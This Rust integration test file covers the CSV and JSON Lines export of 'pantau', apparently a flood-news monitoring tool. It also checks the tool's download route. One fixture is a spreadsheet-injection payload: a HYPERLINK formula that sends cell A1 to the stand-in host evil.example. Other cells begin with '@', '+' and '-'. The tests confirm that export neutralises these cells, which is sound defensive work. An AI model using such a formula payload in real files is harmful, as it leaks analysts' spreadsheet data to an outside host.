//! `pantau export` and `GET /api/export`, as analysts use them: posts go in through the real
//! ingest path (`pantau import`, classified with the repository's keyword lists) into a real
//! SQLite file; the real binary writes CSV and JSON Lines, which are read back with the csv
//! crate and serde_json; the route is asked over a loopback socket and must hand over the
//! same bytes. Hostile post text must come out of the CSV unable to run as a formula.

mod common;

use std::collections::HashMap;
use std::process::Output;

use common::{Project, stderr, stdout};
use pantau::Classifier;
use pantau::export::COLUMNS;
use pantau::store::writer::Writer;
use serde_json::{Value, json};

/// A formula that sends the sheet's first cell away when the analyst clicks it.
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\") Banjir merendam rumah warga di Sempaja Samarinda";

/// The posts of every test: flood posts around the local day 2026-11-27 (WITA), hostile
/// ones among them, a power cut that only mentions a flood, and posts of other topics.
fn records() -> Vec<Value> {
    let flood = |id: &str, at: &str, text: &str| json!({"source": "warga-samarinda", "id": id, "text": text, "published": at, "lang": "id"});
    vec![
        // One second before the local day.
        flood(
            "sebelum",
            "2026-11-26T23:59:59+08:00",
            "Banjir lagi di Lempake Samarinda sejak sore",
        ),
        // Its first second, hostile, with reach.
        json!({
            "source": "vendor-tiktok", "id": "hyperlink", "text": HYPERLINK,
            "published": "2026-11-27T00:00:00+08:00", "lang": "id",
            "platform": "tiktok", "author": "@SUM(A1:A9)", "likes": 120, "shares": 7,
            "views": 5000, "followers": 3000,
            "url": "https://vendor.example/v/1",
        }),
        json!({
            "source": "warga-samarinda", "id": "plus", "title": "+1 banjir lagi di Gunung Samarinda Balikpapan",
            "text": "Air masuk rumah warga Gunung Samarinda Balikpapan sejak subuh",
            "published": "2026-11-27T08:00:00+08:00", "lang": "id",
        }),
        flood(
            "minus",
            "2026-11-27T12:00:00+08:00",
            "-2 rumah terendam banjir di Balikpapan Baru, air setinggi lutut",
        ),
        // Its last second.
        flood(
            "akhir",
            "2026-11-27T23:59:59+08:00",
            "Banjir setinggi pinggang di Bengkuring Samarinda malam ini",
        ),
        // The next day's first second.
        flood(
            "esok",
            "2026-11-28T00:00:00+08:00",
            "Banjir belum surut di Sempaja Samarinda pagi ini",
        ),
        // About a power cut; the flood and Sempaja only in a related-stories line.
        json!({
            "source": "kaltim-news", "id": "listrik", "title": "Pemadaman listrik bergilir di Bontang",
            "text": "PLN menyebut gangguan gardu membuat listrik padam enam jam di Bontang.\nBaca juga: Banjir rendam Sempaja",
            "published": "2026-11-27T10:00:00+08:00", "lang": "id",
        }),
        json!({
            "source": "warga-samarinda", "id": "sembako", "text": "Harga cabai naik di pasar Segiri",
            "published": "2026-11-27T09:00:00+08:00", "lang": "id",
        }),
        // No topic at all: never exported.
        json!({
            "source": "warga-samarinda", "id": "kosong", "text": "Selamat pagi semua, semoga harinya menyenangkan",
            "published": "2026-11-27T09:30:00+08:00", "lang": "id",
        }),
    ]
}

/// A project whose store holds `records`, imported by the real binary.
fn project(records: &[Value]) -> Project {
    let p = Project::new("", "");
    let file = p.path().join("posts.jsonl");
    let lines: String = records.iter().map(|r| format!("{r}\n")).collect();
    std::fs::write(&file, lines).unwrap();
    let out = p.pantau(&["import", file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let accepted = format!("{} rekaman diterima", records.len());
    assert!(stdout(&out).contains(&accepted), "{}", stdout(&out));
    p
}

fn export(p: &Project, args: &[&str]) -> Output {
    let mut all = vec!["export"];
    all.extend_from_slice(args);
    p.pantau(&all)
}

/// The rows of a CSV export, each by column name, after checking its header.
fn csv_rows(bytes: &[u8]) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(bytes);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, COLUMNS, "the documented columns, in order");
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            header
                .iter()
                .cloned()
                .zip(r.iter().map(String::from))
                .collect()
        })
        .collect()
}

fn jsonl_rows(bytes: &[u8]) -> Vec<Value> {
    std::str::from_utf8(bytes)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// The row whose text (or title) contains `needle`.
fn row<'a>(rows: &'a [HashMap<String, String>], needle: &str) -> &'a HashMap<String, String> {
    rows.iter()
        .find(|r| r["text"].contains(needle) || r["title"].contains(needle))
        .unwrap_or_else(|| panic!("no row with {needle}: {rows:?}"))
}

fn texts(rows: &[HashMap<String, String>]) -> Vec<&str> {
    rows.iter().map(|r| r["text"].as_str()).collect()
}

#[test]
fn csv_has_every_column_and_no_cell_a_spreadsheet_would_run() {
    let p = project(&records());
    let out = export(
        &p,
        &[
            "--topic",
            "banjir",
            "--since",
            "2026-11-20",
            "--until",
            "2026-11-30",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let rows = csv_rows(&out.stdout);
    assert_eq!(rows.len(), 6, "{rows:?}");
    // Hostile cells get a leading apostrophe, whatever column they are in.
    let h = row(&rows, "HYPERLINK");
    assert_eq!(h["text"], format!("'{HYPERLINK}"));
    assert_eq!(h["author"], "'@SUM(A1:A9)");
    assert_eq!(
        row(&rows, "Gunung Samarinda")["title"],
        "'+1 banjir lagi di Gunung Samarinda Balikpapan"
    );
    assert!(row(&rows, "Balikpapan Baru")["text"].starts_with("'-2 rumah"));
    // Our own numbers (a negative score) are numbers, not formulas: they stay as they are.
    for r in &rows {
        for (column, cell) in r.iter().filter(|(_, c)| c.parse::<f64>().is_err()) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {cell}"
            );
        }
    }
    // Local times with their offset; reach as stated, empty where nothing was said.
    assert_eq!(h["published"], "2026-11-27T00:00:00+08:00");
    assert_eq!(h["platform"], "tiktok");
    assert_eq!(h["source"], "vendor-tiktok");
    assert_eq!(h["url"], "https://vendor.example/v/1");
    assert_eq!(
        [
            &h["likes"],
            &h["shares"],
            &h["comments"],
            &h["views"],
            &h["followers"]
        ],
        ["120", "7", "", "5000", "3000"]
    );
    let quiet = row(&rows, "Lempake");
    assert_eq!(
        [&quiet["likes"], &quiet["views"], &quiet["author"]],
        ["", "", ""]
    );
    assert_eq!(quiet["published"], "2026-11-26T23:59:59+08:00");
    // Tags: the topic and the places it is about, space separated.
    assert_eq!(h["topics"], "banjir");
    let regions: Vec<&str> = h["regions"].split(' ').collect();
    assert!(
        regions.contains(&"samarinda") && regions.contains(&"sempaja"),
        "{regions:?}"
    );
    assert!(
        !h["sentiment"].is_empty() && h["sentiment_score"].parse::<f64>().is_ok(),
        "{h:?}"
    );
    assert!(h["id"].parse::<i64>().unwrap() > 0);
    // Oldest first.
    let times: Vec<&str> = rows.iter().map(|r| r["published"].as_str()).collect();
    let mut sorted = times.clone();
    sorted.sort();
    assert_eq!(times, sorted);

    // JSON Lines: the same fields in the same order, the text as it was, numbers as numbers.
    let out = export(
        &p,
        &[
            "--topic",
            "banjir",
            "--since",
            "2026-11-20",
            "--until",
            "2026-11-30",
            "--format",
            "jsonl",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let lines = jsonl_rows(&out.stdout);
    assert_eq!(lines.len(), 6);
    for l in &lines {
        let keys: Vec<&str> = l.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(keys, COLUMNS);
    }
    let h = lines
        .iter()
        .find(|l| l["text"] == HYPERLINK)
        .expect("the text unchanged");
    assert_eq!(h["author"], "@SUM(A1:A9)");
    assert_eq!(h["likes"], 120);
    assert_eq!(h["comments"], Value::Null);
    assert_eq!(h["topics"], json!(["banjir"]));
    assert_eq!(h["published"], "2026-11-27T00:00:00+08:00");
    assert!(h["sentiment_score"].is_number(), "{h}");
}

#[test]
fn filters_are_topic_region_role_and_local_days() {
    let p = project(&records());
    let csv = |args: &[&str]| {
        let out = export(&p, args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        csv_rows(&out.stdout)
    };
    // One local day: from its first second to its last, not the seconds around it.
    let day = csv(&[
        "--topic",
        "banjir",
        "--since",
        "2026-11-27",
        "--until",
        "2026-11-27",
    ]);
    let times: Vec<&str> = day.iter().map(|r| r["published"].as_str()).collect();
    assert_eq!(
        times,
        [
            "2026-11-27T00:00:00+08:00",
            "2026-11-27T08:00:00+08:00",
            "2026-11-27T12:00:00+08:00",
            "2026-11-27T23:59:59+08:00"
        ]
    );
    // A local time is that instant: the end is excluded, the start included.
    let morning = csv(&[
        "--topic",
        "banjir",
        "--since",
        "2026-11-27T08:00",
        "--until",
        "2026-11-27T12:00",
    ]);
    assert_eq!(
        texts(&morning),
        ["Air masuk rumah warga Gunung Samarinda Balikpapan sejak subuh"]
    );

    // A region: the posts about Balikpapan only.
    let bpp = csv(&[
        "--topic",
        "banjir",
        "--region",
        "balikpapan",
        "--since",
        "2026-11-20",
    ]);
    assert_eq!(bpp.len(), 2, "{bpp:?}");
    assert!(
        bpp.iter()
            .all(|r| r["regions"].split(' ').any(|x| x == "balikpapan"))
    );

    // Primary tags by default: the power cut only names the flood.
    let banjir = csv(&["--topic", "banjir", "--since", "2026-11-20"]);
    assert!(
        !banjir.iter().any(|r| r["topics"].contains("listrik")),
        "{banjir:?}"
    );
    let with_mentions = csv(&[
        "--topic",
        "banjir",
        "--since",
        "2026-11-20",
        "--include-mentioned",
    ]);
    assert_eq!(with_mentions.len(), banjir.len() + 1);
    let cut = row(&with_mentions, "gardu");
    assert_eq!(cut["topics"], "listrik");
    assert_eq!(cut["mentioned_topics"], "banjir");

    // Another topic; and without --topic every post with a topic, never one without.
    let listrik = csv(&["--topic", "listrik", "--since", "2026-11-20"]);
    assert_eq!(texts(&listrik).len(), 1);
    let all = csv(&["--since", "2026-11-20"]);
    assert_eq!(all.len(), records().len() - 1, "{:?}", texts(&all));
    assert!(!texts(&all).iter().any(|t| t.contains("Selamat pagi")));

    // The default period is the last 7 days: these posts are older.
    let out = export(&p, &["--topic", "banjir"]);
    assert!(out.status.success());
    assert!(csv_rows(&out.stdout).is_empty());
    assert!(
        stderr(&out).contains("0 unggahan diekspor"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("--since"), "{}", stderr(&out));
}

#[test]
fn mistakes_are_explained_and_files_are_whole() {
    let p = project(&records()[..2]);
    // An unknown topic: exit 1, the likely one and where the ids are.
    let out = export(&p, &["--topic", "banjr"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("topik \"banjr\" tidak dikenal"), "{err}");
    assert!(err.contains("mungkin maksud Anda \"banjir\""), "{err}");
    assert!(err.contains("jalan-rusak"), "the known ids: {err}");
    assert!(out.stdout.is_empty());
    let out = export(&p, &["--region", "samarind"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("wilayah \"samarind\" tidak dikenal"),
        "{}",
        stderr(&out)
    );
    for bad in [["--since", "kemarin"], ["--until", "2026-13-01"]] {
        let out = export(&p, &bad);
        assert_eq!(out.status.code(), Some(1), "{bad:?}");
        assert!(stderr(&out).contains("tidak valid"), "{}", stderr(&out));
    }
    let out = export(&p, &["--since", "2026-11-28", "--until", "2026-11-27"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("periode kosong"), "{}", stderr(&out));
    let out = export(&p, &["--format", "xlsx"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("pakai csv atau jsonl"),
        "{}",
        stderr(&out)
    );

    // To a file: the summary on stdout, the file complete, nothing left beside it.
    let dir = p.path().join("ekspor");
    std::fs::create_dir(&dir).unwrap();
    let file = dir.join("banjir.csv");
    let out = export(
        &p,
        &[
            "--topic",
            "banjir",
            "--since",
            "2026-11-01",
            "--out",
            file.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("2 unggahan (csv; topik banjir"),
        "{}",
        stdout(&out)
    );
    assert_eq!(csv_rows(&std::fs::read(&file).unwrap()).len(), 2);
    let names: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names, ["banjir.csv"]);
    // A folder that does not exist: exit 1, naming the file.
    let out = export(&p, &["--out", dir.join("tidak/ada.csv").to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("ada.csv: berkas tidak dapat dibuat"),
        "{}",
        stderr(&out)
    );
}

/// The route streams the same bytes as the command, as a download, in chunks (the bulk of
/// posts is several times the channel's 64 KB chunks), under the read API's rules.
#[tokio::test(flavor = "multi_thread")]
async fn the_route_downloads_what_the_command_writes() {
    let mut all = records();
    for i in 0..1500 {
        all.push(json!({
            "source": format!("warga-{}", i % 7), "id": format!("massal-{i}"),
            "text": common::flood_story(i), "lang": "id",
            "published": format!("2026-11-{:02}T{:02}:{:02}:00+08:00", 10 + i % 9, i % 24, i % 60),
        }));
    }
    let p = project(&all);
    let cli = |args: &[&str]| {
        let out = export(&p, args);
        assert!(out.status.success(), "{}", stderr(&out));
        out.stdout
    };
    let csv_cli = cli(&[
        "--topic",
        "banjir",
        "--since",
        "2026-11-01",
        "--until",
        "2026-11-30",
    ]);
    let jsonl_cli = cli(&[
        "--topic",
        "banjir",
        "--since",
        "2026-11-01",
        "--until",
        "2026-11-30",
        "--format",
        "jsonl",
    ]);
    assert!(csv_cli.len() > 256 * 1024, "{} bytes", csv_cli.len());

    let config = p.load();
    let classifier = Classifier::load(&config.settings.keywords.dir).unwrap();
    let (writer, thread) = Writer::spawn(p.store());
    let server = common::serve(common::app_state(&config, classifier, writer), thread).await;
    let client = reqwest::Client::new();
    let base = &server.base;

    let url = format!("{base}/api/export?topic=banjir&since=2026-11-01&until=2026-11-30");
    let r = client.get(&url).send().await.unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let header = |name: &str| r.headers()[name].to_str().unwrap().to_string();
    assert_eq!(header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        header("content-disposition"),
        "attachment; filename=\"pantau-banjir-2026-11-01-2026-11-30.csv\""
    );
    assert_eq!(header("x-content-type-options"), "nosniff");
    let body = r.bytes().await.unwrap();
    assert_eq!(body.as_ref(), csv_cli.as_slice(), "the command's bytes");
    let rows = csv_rows(&body);
    assert_eq!(rows.len(), 1500 + 6);
    assert_eq!(row(&rows, "HYPERLINK")["text"], format!("'{HYPERLINK}"));

    let r = client
        .get(format!("{url}&format=jsonl"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    assert!(
        r.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .ends_with(".jsonl\"")
    );
    let body = r.bytes().await.unwrap();
    assert_eq!(body.as_ref(), jsonl_cli.as_slice());

    // The mentioned posts, a region, a day, as the command has them.
    let r = client
        .get(format!("{base}/api/export?topic=banjir&region=balikpapan&since=2026-11-27&until=2026-11-27&mentioned=1"))
        .send()
        .await
        .unwrap();
    let rows = csv_rows(&r.bytes().await.unwrap());
    assert_eq!(texts(&rows).len(), 2, "{rows:?}");

    // Mistakes answer 400 with the fix, as the read API does.
    for (query, says) in [
        ("topic=banjr", "topik \"banjr\" tidak dikenal"),
        ("region=samarind", "wilayah \"samarind\" tidak dikenal"),
        ("format=xlsx", "pakai csv atau jsonl"),
        ("since=kemarin", "since=\"kemarin\" tidak valid"),
        (
            "since=2026-11-28&until=2026-11-27",
            "since harus sebelum until",
        ),
        ("mentioned=mungkin", "mentioned=\"mungkin\" tidak valid"),
    ] {
        let r = client
            .get(format!("{base}/api/export?{query}"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 400, "{query}");
        let v: Value = serde_json::from_str(&r.text().await.unwrap()).unwrap();
        assert!(v["error"].as_str().unwrap().contains(says), "{query}: {v}");
    }

    // The dashboard's topic view links to it.
    let page = client
        .get(format!("{base}/?topic=banjir"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("href=\"/api/export?topic=banjir&amp;format=csv\""),
        "{page}"
    );
    assert!(page.contains("href=\"/api/export?topic=banjir&amp;format=jsonl\""));
    let front = client
        .get(format!("{base}/"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!front.contains("/api/export?"), "no link without a topic");
    server.stop().await;
}
